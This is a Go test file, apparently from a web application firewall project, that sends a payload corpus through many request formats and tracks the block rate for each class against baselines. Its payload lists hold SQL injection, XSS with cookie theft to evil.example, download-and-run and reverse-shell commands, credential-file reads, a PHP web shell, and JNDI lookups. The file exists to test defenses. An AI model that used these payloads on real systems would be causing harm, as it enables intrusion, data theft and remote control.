package ordinary

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/wafer-waf/wafer/test/corpus"
)

// payloads are attacks of every class, as short as they are when somebody tries a field.
func payloads() map[string][]string {
	return map[string][]string{
		"sqli": lines(`
1' OR '1'='1
1' OR 1=1-- -
admin'--
1 UNION SELECT username,password FROM users--
' UNION ALL SELECT NULL,NULL,version()-- -
1; DROP TABLE users--
1' AND SLEEP(5)-- -
1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)
'; EXEC xp_cmdshell('dir');--
1' WAITFOR DELAY '0:0:5'--
-1' UNION SELECT 1,@@version,3#
1' AND extractvalue(1,concat(0x7e,version()))-- -
1 or pg_sleep(5)--
' or 1=1 limit 1 -- -+
1'||(SELECT UTL_INADDR.GET_HOST_ADDRESS('x') FROM dual)||'
1/**/UNION/*!50000SELECT*/1,2,3
x' AND '{"a":1}'::jsonb @> '{"a":1}'--
1' AND json_extract('{"a":1}','$.a')=1-- -
1' OR '{"b":2}'::jsonb <@ '{"a":1,"b":2}'::jsonb -- -
' OR JSON_EXTRACT('{"id": 1}', '$.id') = 1 --
`),
		"xss": lines(`
<script>alert(1)</script>
"><img src=x onerror=alert(1)>
<svg/onload=alert(document.domain)>
javascript:alert(1)//
<iframe src="javascript:alert(1)"></iframe>
<body onload=alert(1)>
"><script src=https://evil.example/x.js></script>
<a href="javascript:alert(1)">x</a>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
'-alert(document.cookie)-'
<math><mtext></mtext><script>alert(1)</script>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<marquee onstart=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
";document.location='https://evil.example/?c='+document.cookie;//
`),
		"rce": lines(`
; cat /etc/passwd
| id
$(cat /etc/passwd)
` + "`id`" + `
; wget http://evil.example/x.sh -O /tmp/x; sh /tmp/x
&& curl http://evil.example/$(whoami)
; nc -e /bin/sh 10.0.0.1 4444
| ls -la /
() { :; }; /bin/bash -c "id"
; ping -c 10 127.0.0.1
a; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
${IFS}cat${IFS}/etc/passwd
& net user hacker Passw0rd /add
| powershell -enc SQBFAFgA
; python3 -c 'import os; os.system("id")'
& dir c:\windows
`),
		"lfi": lines(`
../../../../etc/passwd
..%2f..%2f..%2fetc%2fpasswd
/etc/shadow
....//....//....//etc/passwd
..\..\..\windows\win.ini
/proc/self/environ
file:///etc/passwd
../../.git/config
/var/www/html/.env
../../../../boot.ini
`),
		"rfi": lines(`
http://10.0.0.1/shell.txt?
https://192.168.1.1/x.php?
ftp://10.1.1.1/evil.txt?
`),
		"php": lines(`
<?php system($_GET['c']); ?>
php://filter/convert.base64-encode/resource=index.php
O:8:"stdClass":1:{s:1:"a";i:1;}
phpinfo()
data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+
system('id')
base64_decode('cGhwaW5mbygp')
expect://id
phar://x.phar/y
data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+
`),
		"java": lines(`
${jndi:ldap://evil.example/a}
${${lower:j}ndi:ldap://evil.example/a}
java.lang.Runtime.getRuntime().exec("id")
%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
T(java.lang.Runtime).getRuntime().exec('id')
org.apache.commons.collections.functors.InvokerTransformer
`),
		"generic": lines(`
{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}
__proto__[polluted]=1
constructor.prototype.polluted
require('child_process').exec('id')
process.mainModule.require('child_process').execSync('id')
http://169.254.169.254/latest/meta-data/
gopher://127.0.0.1:6379/_INFO
<%= system('id') %>
this.constructor.constructor('return process')()
`),
		"nosql": lines(`
{"$gt":""}
{"$where":"sleep(5000)"}
';return this.password.match(/a/);//
{"username":{"$ne":null},"password":{"$ne":null}}
[$ne]=1
`),
		"protocol": lines(`
x%0d%0aSet-Cookie: a=b
x%0d%0a%0d%0a<html>
x%0aLocation: https://evil.example/
*)(uid=*))(|(uid=*
`),
	}
}

// places are where an application reads values from.
func places() map[string]func(a *author, payload string) Request {
	document := func(p string) string {
		return encode(object{"id": 12, "user": object{"name": "Anna", "comment": p}, "tags": []string{"a", "b"}})
	}
	body := func(mediaType string, write func(string) string) func(*author, string) Request {
		return func(a *author, p string) Request { return a.call("POST", "/api/v1/items").body(mediaType, write(p)) }
	}
	field := func(p string) string { return "id=12&comment=" + url.QueryEscape(p) + "&submit=1" }
	return map[string]func(*author, string) Request{
		"query": func(a *author, p string) Request { return a.call("GET", "/items?id=12&q="+url.QueryEscape(p)).Request },
		"query JSON": func(a *author, p string) Request {
			return a.call("GET", "/items?filter="+url.QueryEscape(document(p))).Request
		},
		"query document": func(a *author, p string) Request {
			return a.call("GET", "/items?d="+url.QueryEscape(encode([]string{encode(object{"q": p})}))).Request
		},
		"cookie": func(a *author, p string) Request {
			return a.native("GET", "/items").add("Cookie", "id=12; pref="+url.PathEscape(strings.ReplaceAll(p, ";", "%3B"))).Request
		},
		"cookie JSON": func(a *author, p string) Request {
			return a.native("GET", "/items").add("Cookie", "pref="+component(document(p))).Request
		},
		"form":            body(formType, field),
		"form JSON":       body(formType, func(p string) string { return "payload=" + url.QueryEscape(document(p)) }),
		"json":            body(jsonType, document),
		"json in json":    body(jsonType, func(p string) string { return encode(object{"event": "x", "data": document(p)}) }),
		"text JSON":       body(textUTF8, document),
		"text form":       body(plainType, field),
		"form type, JSON": body(formType, document),
		"octets, JSON":    body("application/octet-stream", document),
		"vendor JSON":     body("application/vnd.example+json", document),
		"ndjson":          body("application/x-ndjson", func(p string) string { return encode(object{"index": "x"}) + "\n" + document(p) + "\n" }),
		"envelope":        body(textUTF8, func(p string) string { return encode(object{"sdk": "x"}) + "\n" + document(p) }),
		"csp report":      body("application/csp-report", document),
		"graphql": body("application/graphql", func(p string) string {
			return `query { user(name: "` + strings.ReplaceAll(p, `"`, `\"`) + `") { id } }`
		}),
		"protobuf": body("application/x-protobuf", func(p string) string { return "\x08\x0c\x12" + string(rune(len(p)%128)) + p + "\x18\x01" }),
		"no type":  body("", document),
		"xml": body("application/xml", func(p string) string {
			return `<?xml version="1.0"?><o id="1"><note>` + strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(p) + `</note></o>`
		}),
		"text XML": body(plainType, func(p string) string {
			return `<?xml version="1.0"?><o id="1"><note>` + strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(p) + `</note></o>`
		}),
		"multipart": func(a *author, p string) Request {
			return a.navigate("POST", "/items").body("multipart/form-data; boundary=----WebKitFormBoundary"+a.fixed(), a.multipart(pair{"id", "12"}, pair{"comment", p}))
		},
		"multipart JSON": func(a *author, p string) Request {
			return a.navigate("POST", "/items").body("multipart/form-data; boundary=----WebKitFormBoundary"+a.fixed(), a.multipart(pair{"id", "12"}, pair{"payload", document(p)}))
		},
		"gzip JSON": func(a *author, p string) Request {
			return a.call("POST", "/items").add("Content-Encoding", "gzip").body(jsonType, zip(document(p)))
		},
		"gzip text": func(a *author, p string) Request {
			return a.call("POST", "/items").add("Content-Encoding", "gzip").body(plainType, zip(document(p)))
		},
	}
}

// refusedByType are the places that CRS's own list of media types, or of fields, closes.
var refusedByType = map[string]bool{
	"csp report": true, "envelope": true, "graphql": true, "gzip JSON": true, "gzip text": true, "ndjson": true, "no type": true,
	"octets, JSON": true, "protobuf": true, "text JSON": true, "text XML": true, "text form": true, "vendor JSON": true,
}

// TestAttacks prints how many attacks the default policy stops, by class and place: of this
// package's, and of the Core Rule Set's own tests.
func TestAttacks(t *testing.T) {
	a := &author{rand.New(rand.NewPCG(2026, 7))}
	var requests []Request
	var classes []string
	all := payloads()
	for _, class := range sorted(all) {
		for _, place := range sorted(places()) {
			for _, p := range all[class] {
				r := places()[place](a, p)
				r.Kind = place
				requests, classes = append(requests, r), append(classes, class)
			}
		}
	}
	list, err := corpus.Attacks()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range list {
		r.Kind = "suite"
		requests, classes = append(requests, r), append(classes, "suite "+r.Source[:3])
	}
	byClass, byPlace := map[string]count{}, map[string]count{}
	for i, o := range judge(t, tier(t, defaults), requests) {
		// Where CRS refuses the media type, it refuses every attack, and every request.
		if refusedByType[requests[i].Kind] {
			tally(byClass, classes[i]+" (other types)", o.refused)
		} else {
			tally(byClass, classes[i], o.refused)
		}
		if requests[i].Kind != "suite" {
			tally(byPlace, requests[i].Kind, o.refused)
		}
	}
	var b strings.Builder
	for _, m := range []map[string]count{byClass, byPlace} {
		for _, name := range sorted(m) {
			fmt.Fprintf(&b, "%-24s %6d %6d %7.2f\n", name, m[name].all, m[name].refused, m[name].percent())
		}
		b.WriteString("\n")
	}
	t.Log("\n" + b.String())
	for class, before := range stopped() {
		if now := byClass[class].percent(); now < before-slack {
			t.Errorf("%s: %.2f %% of the attacks are stopped, before it were %.2f %%", class, now, before)
		}
	}
}

// slack is how many points of a class's share may be lost to ordinary traffic.
const slack = 0.5

// stopped are the shares of attacks, in percent, that the default policy stopped when it was CRS's own
// and Coraza read the requests: those in media types that CRS allows, and CRS's tests at paranoia 1. What
// is about media types alone is left out (920), and one test whose path holds an address, as ordinary ones
// do (931131-2).
func stopped() map[string]float64 {
	return map[string]float64{
		"generic": 94.02, "java": 100, "lfi": 100, "nosql": 98.46, "php": 89.23, "protocol": 44.23, "rce": 75.48, "rfi": 51.28, "sqli": 96.92, "xss": 100,
		"suite 913": 100, "suite 921": 78.57, "suite 922": 100, "suite 930": 84.21, "suite 931": 42.42, "suite 932": 71.78, "suite 933": 93.77,
		"suite 934": 67.23, "suite 941": 96.08, "suite 942": 53.14, "suite 943": 100, "suite 944": 68.64,
	}
}

func tally(m map[string]count, name string, refused bool) {
	c := m[name]
	c.all++
	if refused {
		c.refused++
	}
	m[name] = c
}

func sorted[V any](m map[string]V) []string {
	var names []string
	for n := range m {
		names = append(names, n)
	}
	slices.Sort(names)
	return names
}
